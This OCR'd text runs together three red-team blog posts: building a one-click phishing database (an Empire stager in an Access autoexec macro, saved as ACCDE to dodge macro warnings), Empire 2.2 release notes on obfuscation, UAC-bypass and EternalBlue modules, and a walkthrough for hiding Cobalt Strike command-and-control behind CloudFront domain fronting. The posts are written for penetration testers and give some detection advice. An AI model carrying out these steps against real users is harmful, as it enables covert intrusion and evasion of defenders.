Phishing for “Access”

Changing Phishing Tactics Require Closer User and Defender Attention

Steve Borosh

A few interesting and concerning phishing methods appeared this year. Just search Google for “DDE attack” or check out the InfoPath payloads to see what I mean. It’s pretty cool stuff if you’re on the offensive side of the house, while giving those of us tasked with defense just one more thing to worry about.

This phishing buzz piqued my interest enough to search for more interesting payloads. I recently read Matt Nelson’s blog on bypassing protected view and wondered if the same could be done elsewhere in Microsoft Office. Keeping the user to one-click code execution makes it even more challenging to defend against attacks through security awareness and best practices.

Executable Database Approach

After poking around a bit, I came to the always-delightful Microsoft Access. I started by looking at as the available “save as” filetypes, which brought me to this obvious option:

Those of us on offense like things that execute! But how does this file type differ from a standard database file? Maybe it has different security settings or options. Let’s find out!

First, I opened Microsoft Access 2016 and created a blank database.

Next, I had to find a spot to place my Empire stager code. Microsoft Access macros are merely triggers that contain no code. The actual code to execute is stored in a module, defined as “a collection of user-defined functions, subroutines, and global variables written in VBA code. These objects can then be used/called from anywhere in your Access database.”

With my blankdatabase open, I navigated to the “Create” tab and select “module” button next to the Macro button group.

This gave me a spot to place my code. For this demonstration, I used a standard Empire macro payload.

When I closed the new macro, I was prompted with the option to change the name of the module. Naming the module is important if you’re trying to further mask the suspiciousness of the database.

With the stager placed in a module, my next step was to create the macro to trigger it. I started this by navigating to the “Create” tab and selecting the Macro button.

In here, I clicked the drop-down menu and selected “RunCode”.

This RunCode trigger requires a function name from your VBScript. It will handily auto-complete your function name. I chose to customize this in my VBScript and change the function name.

Again, when I closed my macro, I was prompted with the save as dialog box. I named it “autoexec.” This macro will run automatically when the recipient opens the document.To make the document even more authentic, I modified the table names and put some enticing but fake data in there. Unfortunately for the target user, by the time they get to this screen, they’ve been infected.

To create the executable file, I saved the payload as a standard database file. Then, I navigated to the “Save As” menu option and selected “Make ACCDE.” This saved the database as a “locked-down” version of the original.

This gave me two copies of the same file: A regular database file format and an “execute only” version of the same database. Both are loaded with the autoexec macro that triggers my VBScript, providing me with access to the target host. Here’s how the payloads look in action.

Note the difference in security warnings between the two payloads. With the ACCDE format, we’re only one click away from code execution with no macro warnings—only a single warning about unsafecontent.


When I uploaded the ACCDE format to, it received a perfect score.

Here we can see the process tree the agent is residing in. Note that Empire uses WMI to launch PowerShell.

If I wanted to take this a step further, I could use the CACTUSTORCH project to enhance the payload a bit. Instead of spawning powershell.exe, I could spawn another process and inject shellcode into it via the magic ofDOTNETTOJSCRIPT.

Notice that the beacon payload in this instance is running in rundll32.exe.

Desired and Dangerous Results

I achieved my original goal of creating a phishing payload that requires only one click from the target user. I’ve also demonstrated the difference between our two weaponized file types. Containing a malicious macro and saved as a standard “.accdb” file, the document warns us that it contains macros. When saved as the “.accde” file format, the document does not warn the victim about its macro contents. Instead, they see one warning about unsafe content before the code executes.

Defending against phishing attacks is hard at best. Many defensive strategies rely heavily on the end user as the first line of defense. As we’ve seen, new phishing vectors continue to come to light frequently, making this a risky proposition.

In this case, monitoring or blocking inbound .accde files would be a good start for defenders. If you’ve implemented an endpoint solution to monitor Parent/Child process relationships, such as Nuix Adaptive Security, you could monitor for Microsoft Office products spawning other processes such as powershell.exe and rundll32.exe. Remember to stay on top of new tactics used by attackers, and develop defensive methods to counter them accordingly.Empire 2.2 – Maintaining an Empire

Maintaining an Empire

All great empires require maintenance. As we move towards the next major release (Empire 3.0), we continue to receive great support from the Empire community. From git issues to pull requests, the improvements keep flooding in. The coredevelopers of Empire could not appreciate this more! We are certainly grateful for the support of such a great community.


This blog post will actually cover some of the fixes and improvements from 2.1 and 2.2 releases as we did not release a blog post for the 2.1 release. Many of these fixes or improvements came from the community and we certainly don’t take credit for them all, nor do we have the ability to cover all the fixes and improvements that were submitted. This blog covers some of the notable improvements that we have time to cover. For a full list of changes, please see the changelog.

Obfuscated Empire

Empire 2.1 introduced “Obfuscated Empire”, a modification to the code base from @cobbr. This represents a significant change for Empire. While, wedon’t want to play the game of “whack-a-mole” with antivirus vendors, we certainly want to push defenders and blue teams to be on the lookout for obfuscated code from adversaries. Obfuscated empire can be used to help defenderswork on their detection mechanisms for this type of attack. We highly suggest you try this option out and read more on obfuscated empire at

Added backgrounding for downloads

@Xorrior modified the PowerShell agent to allow for background downloads. It involves using the same logic used in background jobexecution. Download tasks are sent to a PowerShell runspace in a newly created AppDomain. During each tasking cycle, the target file is appropriately chunked and then a single chunk is sent to the pipeline for retrieval. That file data is retrieved at the end of tasking cycle and sent back to the server. Agents will no longer be tied up for the duration of a large file download. This logic has not been added to the python agent but will be in the future.

Add TokenManipulation UAC Bypassmodule

This was certainly one of my “@rvrsh3ll” favorites. The original research was done by James Forshaw (@tiraniddo) and then weaponized by Ruben Boonen (@fuzzysec). Researcher and Empire dev, Matt Nelson (@enigma0x3) released a PowerShell script at DerbyCon 2017 showing how UAC is basically dead, by duplicating tokens to run code in an elevated context regardless of UAC setting. This was huge! Of course we had to have this in Empire so, a few questions to Matt and we had a modified version ready to go for Empire usage. Now, Empire has a stable BypassUAC module that is all in-memory and will be usable for quite some time. See module: privesc/bypassuac_tokenmanipulation

 Added ‘SandboxMode’ to evade Apple Sandbox protection on applescript

@dchrastil found a novel method using osascript to pop acredential prompt from within the Office sandbox. This option greatly enhances capabilities for post-phishing in a MacOS setting. See module: collection/osx/prompt

Add EternalBlue module

Community member @e0x70i graced us with a port of the metasploit EternalBlue module in the Empire 2.1 release. See module: exploitation/exploit_eternalblue

SSL Intermediate Certificates to support Domain Fronting

A mod from @dchrastil,@h1ghtopfade, and John McLeod. This modification allows for intermediate SSL certificates while setting up a listener over SSL. This was accomplished by splitting the empire.pem (cert + key) into two separate files (empire_chain.pem, empire_priv.key).


Huge thanks for the continuing support of the REST api from @byt3bl33d3r!



While we continue to move forward to our next major release, there’s a few things we are certainly striving to add, such as multiplayer Empire, SOCKS proxy through the agent, internal c2 comms channels such as UDP or SMB and much more. Please join the Empire on slack  today! Get Empire 2.2

SSL Domain Fronting 101

If you’re new to the domain fronting concept, I suggest you start by reading Simplifying Domain Fronting by @malcomvetter. Once you’ve read that, you should have a good understanding of what domain fronting is and why it matters to both offensive and defensive teams. Also, this post is basically an extension from @armitagehacker’s video.

This post will cover a few things. How to find domain frontable sites, how to setup your Cobalt Strike teamserver with a Letsencrypt certificate, how to setup a cloudfront domain front, and finally, we’ll analyze a pcap of the traffic.

To get started, we’ll need to find some frontable domains. Typically, it’s best to blend your traffic in with your target domain. So, saying our target is we’ll use a script thatI built FindFrontableDomains and point it at Clone it, run setup, and point it at your target domain.

search1.png uses the Sublist3r project to search for subdomains. My script then enumerates each subdomain’s records for any possible frontable domains. We end up with some results asshown below.


Now that we have some frontable domains to use, we can start setting up our infrastructure. I’ll assume thatyour Cobalt Strike team server is up and running. You’ll need a domain to register your Letsencrypt certificate as well. The domain name really doesn’t matter in this case, since we are domain fronting. This certificate is used to encrypt the traffic between your cloudfront instance and your team server. Point your A record at your team server as shown below.


Now that your DNS settings are correct, you can create a Letsencrypt certificate with this domain. I like to use @killswitch_gui’s script to setup Letsencrypt on our team server quickly.

After downloading, chmod +x the script and run it. Enter your domain, cert password, and Cobalt Strike location.And that’s it! If everything goes as planned, your Letsencrypt certs are created along with your java key store and an example amazon profile.


EDIT 1/20/2018

I’ve noticed that amazon domain fronting prefers base64url encoding in your malleable profile. I’ve also found this profile to be a great starter profile for domain fronting

Just be sure to change all of the encodings to base64url.


Now that that is complete, go ahead and log into your Amazon Ec2 console. Find the CloudFront option and click it.




Once in the “CloudFront Distributions” menu, click “Create Distribution”




Select “Get Started” under “Web” delivery method.




Here’s where you’ll start filling out the important CloudFront options. Add you origin domain name. This will direct your traffic from the CloudFront instance to your team server behind the scenes. Follow the options as shown!




Next, you’ll need to select the options as I have selected below. These are important! We don’t want our content being cached on CloudFront as it will severely degradeperformance.




That’s it for settings! Now, click “Create Distribution” to begin the cloudfront deployment process. You’ll be taken back to the cloudfront distributions menu where you’ll have to wait 10-15 minutes for the status to change to “deployed”. Once that is complete, we’re all set! In the mean-time we can modify our Cobalt Strike malleable c2 profile to correctly point to our cloudfront distribution.



Here, we add our cloudfront distribution URI to the “Host” header on both the GET and POST request parts of our C2 profile. With that saved, we can fire up Cobalt Strike.



Log into your Cobalt Strike instance and create a new listener. The key here is that your “Host” needs to point to your cloudfront instance and the beacon domain points to the target frontable domain.





Once the listener is started, generate a fully-staged payload however you like. And launch on your target system. Your traffic will begin using the domain front. The wireshark snips below may give you an idea of how this process is actually working from the target or blue side. Once the payload is launched, the fronted domain is resolved using DNS.




